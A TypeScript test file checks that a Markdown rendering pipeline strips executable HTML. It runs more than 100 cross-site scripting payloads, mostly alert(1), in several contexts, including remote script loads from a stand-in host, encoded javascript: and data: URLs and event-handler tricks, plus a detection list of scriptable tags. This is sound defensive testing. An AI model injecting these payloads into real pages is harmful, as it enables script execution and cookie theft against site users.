import { parseFragment, type DefaultTreeAdapterMap } from "parse5";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "@/lib/markdown/render-markdown";

// A corpus of cross-site scripting payloads, after the OWASP filter-evasion cheat sheet and the
// usual Markdown-specific tricks, each sent through the pipeline alone, inside a paragraph, as a
// link, as an image and inside a table. The output is parsed as a browser would (parse5, the
// HTML standard's parser) and searched for anything that could run: script-capable elements,
// event-handler attributes, style, and URLs with a scripting or data scheme.

const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  "<script src=//xss.example/a.js></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "<script/xss src=https://xss.example/x.js></script>",
  "<script>/*</script><script>alert(1)//*/</script>",
  '<IMG SRC="javascript:alert(1);">',
  "<IMG SRC=javascript:alert(1)>",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC= onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  "<img src=x onerror=alert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  "<SVG ONLOAD=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<BODY ONLOAD=alert(1)>",
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  '<video><source onerror="alert(1)">',
  "<video src=x onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<BGSOUND SRC="javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TABLE><TD BACKGROUND="javascript:alert(1)">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<BASE HREF="javascript:alert(1);//">',
  "<form action=javascript:alert(1)><input type=submit>",
  "<button formaction=javascript:alert(1)>x</button>",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jAvAsCrIpT:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  "<a onmouseover=alert(1)>hover</a>",
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  "<div onpointerenter=alert(1)>x</div>",
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%" onclick=alert(1)>',
  "<x contenteditable onblur=alert(1)>lose focus!",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<isindex type=image src=1 onerror=alert(1)>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](javascript&#58;alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](  javascript:alert(1)  )",
  "[click](<javascript:alert(1)>)",
  "[click](java\nscript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](file:///etc/passwd)",
  '[click](https://ok.example "title" onclick="alert(1)")',
  '[click](https://ok.example"onmouseover="alert(1))',
  "![img](javascript:alert(1))",
  "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![img" onerror="alert(1)](https://ok.example/x.png)',
  '![img](https://ok.example/x.png"onerror="alert(1))',
  "[a][ref]\n\n[ref]: javascript:alert(1)",
  "![a][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  "[![img](https://ok.example/x.png)](javascript:alert(1))",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "> <script>alert(1)</script>",
  "- [ ] <img src=x onerror=alert(1)>",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  '<a id="user-content-x" name="x" href="#" onclick="alert(1)">x</a>',
  '<a href="#" id="__proto__">x</a>',
  '<img src="https://ok.example/x.png" srcset="javascript:alert(1) 1x">',
  '<a href="https://ok.example" target="_blank" formaction="javascript:alert(1)">x</a>',
  "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\">x</div>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  "<svg/onload=alert(1)//",
  "<img/src/onerror=alert(1)>",
  "<img src=x oNeRrOr=alert(1)>",
  "<img src=x onerror\n=alert(1)>",
  '<a href="\u0001javascript:alert(1)">x</a>',
  "[x](\u0000javascript:alert(1))",
  "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
];

const scriptable = new Set([
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "style",
  "link",
  "meta",
  "base",
  "form",
  "input",
  "button",
  "textarea",
  "select",
  "svg",
  "math",
  "template",
  "noscript",
  "video",
  "audio",
  "source",
  "body",
  "marquee",
  "bgsound",
  "isindex",
  "keygen",
  "xmp",
  "plaintext",
]);
const urlAttributes = new Set(["href", "src", "action", "formaction", "xlink:href", "background", "poster", "data", "srcset", "lowsrc", "dynsrc", "cite"]);
const safeUrl = /^(https?:|mailto:|#|\/(?!\/)|[^:/?#]*(?:[/?#]|$))/i;

type Node = DefaultTreeAdapterMap["node"];

/** Everything in the rendered HTML that a browser could run. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Node) => {
    if ("tagName" in node) {
      // GFM's task-list box is the one input allowed: a disabled checkbox and nothing else.
      const taskBox = node.tagName === "input" && node.attrs.every((a) => (a.name === "type" && a.value === "checkbox") || a.name === "disabled");
      if (scriptable.has(node.tagName) && !taskBox) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (/^on/i.test(name)) found.push(`${node.tagName}[${name}]`);
        if (name === "style" || name === "srcdoc") found.push(`${node.tagName}[${name}]`);
        // Browsers ignore ASCII whitespace and control characters around and inside the scheme.
        const cleaned = value.replace(/[\u0000-\u0020\u007f]/g, "");
        if (urlAttributes.has(name) && !safeUrl.test(cleaned)) found.push(`${node.tagName}[${name}=${value}]`);
      }
    }
    if ("childNodes" in node) for (const child of node.childNodes) visit(child);
    if ("content" in node && node.content) visit(node.content as Node);
  };
  visit(parseFragment(html) as Node);
  return found;
}

const contexts: [string, (p: string) => string][] = [
  ["alone", (p) => p],
  ["in a paragraph", (p) => `Before ${p} after.`],
  ["as link text", (p) => `[${p}](https://ok.example)`],
  ["as an image's alt", (p) => `![${p}](https://ok.example/x.png)`],
  ["in a table", (p) => `| a |\n|---|\n| ${p.replace(/\n/g, " ")} |`],
];

describe("the Markdown pipeline against a corpus of XSS payloads", () => {
  it("has a corpus of at least 100 payloads", () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(100);
  });

  it("detects danger when there is some (the checker itself is tested)", () => {
    expect(dangers('<img src=x onerror=alert(1)><a href=" java\tscript:x">a</a><script>x</script>')).toEqual([
      "img[onerror]",
      "a[href= java\tscript:x]",
      "<script>",
    ]);
    expect(dangers('<a href="https://ok.example">a</a><img src="/x.png" alt="x"><a href="#top">t</a>')).toEqual([]);
  });

  for (const [where, wrap] of contexts) {
    it(`renders nothing executable from any payload ${where}`, () => {
      const failures = payloads.flatMap((p) => {
        const found = dangers(renderMarkdown(wrap(p)));
        return found.length ? [`${JSON.stringify(p)} → ${found.join(", ")}`] : [];
      });
      expect(failures).toEqual([]);
    });
  }
});
